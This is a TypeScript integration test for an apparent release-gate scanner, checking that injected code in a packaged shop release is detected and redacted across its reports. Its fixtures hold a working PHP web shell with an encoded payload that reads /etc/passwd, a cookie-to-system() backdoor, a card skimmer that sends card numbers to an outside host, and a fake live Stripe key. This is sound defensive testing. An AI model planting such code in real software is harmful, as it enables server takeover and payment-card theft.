// Injected code end to end, through both faces as they ship (dist/cli.js, and
// dist/index.js run as a runner runs it): a release whose store gained a web shell, a
// skimmer appended to a built bundle, a vendor package edited after install, a new
// origin that card data is sent to, and a live key a build inlined into pub/static.
// The kinds reach the JSON report, the SARIF, the summary and the pull request comment;
// no secret or payload is echoed beyond the redacted excerpt.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseReport } from '../../src/baseline/parse-report.js';
import { distIsCurrent } from '../helpers/dist-is-current.js';
import { GitHubServer } from '../helpers/github-server.js';
import { MACHINE_NODE, runCli } from '../helpers/run.js';
import { runAction } from '../helpers/runner.js';
import { packTree } from '../helpers/store-package.js';
import { tempDir } from '../helpers/temp.js';

// assembled at run time so that no scanner of this repository takes the test for a leak
const STRIPE = ['sk', 'live', '9fK2mQ7xLp4Rt8Vz3Nc6Bw1H'].join('_');
const PAYLOAD = Buffer.from('passthru("id; uname -a; cat /etc/passwd"); '.repeat(4)).toString('base64');
const installed = (version: string): string => JSON.stringify({ packages: [{ name: 'acme/payments', version, version_normalized: `${version}.0`, type: 'library' }] });
const BUNDLE = '!function(e){var t={};function n(r){return t[r]}n.m=e}([]);\n'.repeat(400);

const BASE: Record<string, string> = {
  'index.php': '<?php require __DIR__ . "/app/bootstrap.php";\n',
  'app/code/Acme/Shop/Model/Cart.php': '<?php\nnamespace Acme\\Shop\\Model;\nclass Cart {}\n',
  'vendor/composer/installed.json': installed('1.2.0'),
  'vendor/acme/payments/src/Client.php': '<?php\nclass Client {}\n',
  'pub/static/frontend/Acme/theme/en_US/js/checkout.js': `${BUNDLE}console.log('checkout');\n`,
};

const RELEASE: Record<string, string> = {
  ...BASE,
  'app/code/Acme/Shop/Model/Cache.php': `<?php\n// cache warmer\n$k = $_POST['k'] ?? '';\n@eval(base64_decode('${PAYLOAD}') . $_REQUEST['c']);\n`,
  'vendor/acme/payments/src/Client.php': '<?php\nclass Client {}\nif (isset($_COOKIE["dbg"])) { system($_COOKIE["dbg"]); }\n',
  'pub/static/frontend/Acme/theme/en_US/js/checkout.js': `${BUNDLE}var stripeKey = '${STRIPE}';\nsetInterval(function(){var n=document.getElementById('cc_number').value;var c=document.getElementById('cvv').value;if(n.length>=15){fetch('https://jquery-cdn-stats.com/g.php',{method:'POST',body:btoa(n+'|'+c)})}},500);\n`,
};

let work: string;
let base: string;
let release: string;
let github: GitHubServer;

beforeAll(async () => {
  await distIsCurrent();
  work = await tempDir();
  base = await packTree(work, 'shop-1.0.0', BASE);
  release = await packTree(work, 'shop-1.0.1', RELEASE);
  github = await new GitHubServer().start();
});

afterAll(async () => {
  await github.stop();
});

const kindsOf = (findings: readonly { kind: string; rule?: string; severity: string }[]): string[] => findings.map((finding) => `${finding.kind} ${finding.rule ?? ''} ${finding.severity}`).sort();

const EXPECTED = [
  'malicious-code js-payment-fields-sent-away critical',
  'malicious-code php-request-to-code-sink critical',
  'malicious-code php-request-to-command critical',
  'new-origin new-origin-with-payment-fields critical',
  'secret stripe-secret-key critical',
  'tampered-package changed-since-baseline high',
];

describe('injected code through the command line', () => {
  it('fails the release and reports each kind in the JSON report, the SARIF and the summary, echoing no secret or payload', async () => {
    const args = ['scan', release, '--baseline', base, '--offline', '--advisories', 'none', '--report', join(work, 'r.json'), '--sarif', join(work, 'r.sarif'), '--summary', join(work, 's.md')];
    const result = await runCli(args, { cwd: work });
    expect(result.code).toBe(1);
    const report = parseReport(await readFile(join(work, 'r.json'), 'utf8'), 'report');
    expect(kindsOf(report.findings)).toEqual(EXPECTED);
    const shell = report.findings.find((finding) => finding.rule === 'php-request-to-code-sink');
    expect(shell).toMatchObject({ path: 'app/code/Acme/Shop/Model/Cache.php', line: 4 });
    expect(shell?.excerpt).toMatch(/^@eval\(base64_decode\('/);
    expect(report.findings.find((finding) => finding.kind === 'tampered-package')?.title).toMatch(/acme\/payments 1\.2\.0/);
    expect(report.origins.map((record) => record.origin)).toContain('https://jquery-cdn-stats.com');

    const sarif = JSON.parse(await readFile(join(work, 'r.sarif'), 'utf8')) as { runs: { results: { ruleId: string; locations: { physicalLocation: { region: { startLine: number; snippet?: { text: string } } } }[] }[]; tool: { driver: { rules: { id: string; fullDescription?: { text: string } }[] } } }[] };
    const [run] = sarif.runs;
    const result2 = run?.results.find((item) => item.ruleId === 'malicious-code/php-request-to-code-sink');
    expect(result2?.locations[0]?.physicalLocation.region.startLine).toBe(4);
    expect(result2?.locations[0]?.physicalLocation.region.snippet?.text).toBe(shell?.excerpt);
    expect(run?.tool.driver.rules.find((rule) => rule.id === 'malicious-code/php-request-to-code-sink')?.fullDescription?.text).toMatch(/eval\/assert\/create_function/);

    const summary = await readFile(join(work, 's.md'), 'utf8');
    // each kind is a row of what to fix: the shell at its file, the tampered package, the new origin
    expect(summary).toContain('`app/code/Acme/Shop/Model/Cache.php`');
    expect(summary).toMatch(/line 4/);
    expect(summary).toMatch(/acme\/payments/);
    expect(summary).toMatch(/jquery\\?-cdn\\?-stats\\?\.com/);
    expect(summary).toMatch(/external origins? the storefront code uses/);

    for (const text of [await readFile(join(work, 'r.json'), 'utf8'), await readFile(join(work, 'r.sarif'), 'utf8'), summary, result.stdout, result.stderr]) {
      expect(text).not.toContain(STRIPE.slice(8));
      expect(text).not.toContain(PAYLOAD.slice(0, 30));
      expect(text).not.toContain('/etc/passwd');
    }
  });
});

describe('the checks that read every text file, on a worker thread', () => {
  it('find what they find on the main thread, and name what each cost on which thread', async () => {
    const reportOf = async (name: string, env: Record<string, string>): Promise<{ findings: unknown[]; notes: unknown; stderr: string }> => {
      const result = await runCli(['scan', release, '--offline', '--advisories', 'none', '--report', join(work, name)], { cwd: work, env });
      expect(result.code, result.stderr).toBe(1);
      const report = parseReport(await readFile(join(work, name), 'utf8'), 'report');
      return { findings: report.findings, notes: report.notes, stderr: result.stderr };
    };
    const threaded = await reportOf('threaded.json', { RELEASE_GATE_CHECK_COSTS: '1' });
    const inPlace = await reportOf('in-place.json', { RELEASE_GATE_CHECK_WORKER: '0', RELEASE_GATE_CHECK_COSTS: '1' });
    expect(threaded.findings.length).toBeGreaterThan(3);
    expect(threaded.findings).toEqual(inPlace.findings);
    expect(threaded.notes).toEqual(inPlace.notes);
    expect(threaded.stderr).toMatch(/^check-cost secrets worker [\d.]+ ms [\d.]+ MiB$/m);
    expect(threaded.stderr).toMatch(/^check-cost malicious-code worker [\d.]+ ms [\d.]+ MiB$/m);
    expect(inPlace.stderr).toMatch(/^check-cost malicious-code main [\d.]+ ms [\d.]+ MiB$/m);
    expect(inPlace.stderr).not.toMatch(/ worker /);
  });
});

describe('injected code through the action', () => {
  it('fails the step, annotates the lines, and comments with each kind', async () => {
    const result = await runAction(
      work,
      { package: release, baseline: base, advisories: 'none', offline: 'true', 'github-token': 'ghs_fake', report: 'action.json' },
      { node: MACHINE_NODE, event: { pull_request: { number: 3 } }, eventName: 'pull_request', env: { GITHUB_API_URL: github.url, GITHUB_SERVER_URL: 'https://github.example', GITHUB_RUN_ID: '1' } },
    );
    expect(result.code).toBe(1);
    expect(result.outputs['verdict']).toBe('fail');
    expect(result.stdout).toMatch(/^::error title=release-gate%3A critical injected code,file=app\/code\/Acme\/Shop\/Model\/Cache\.php,line=4::Web shell/m);
    const [comment] = github.ours(3);
    expect(comment?.body).toContain('`app/code/Acme/Shop/Model/Cache.php`');
    expect(comment?.body).toMatch(/acme\/payments/);
    expect(comment?.body).toMatch(/jquery\\?-cdn\\?-stats\\?\.com/);
    for (const text of [comment?.body ?? '', result.summary, result.stdout]) {
      expect(text).not.toContain(STRIPE.slice(8));
      expect(text).not.toContain(PAYLOAD.slice(0, 30));
    }
  });
});
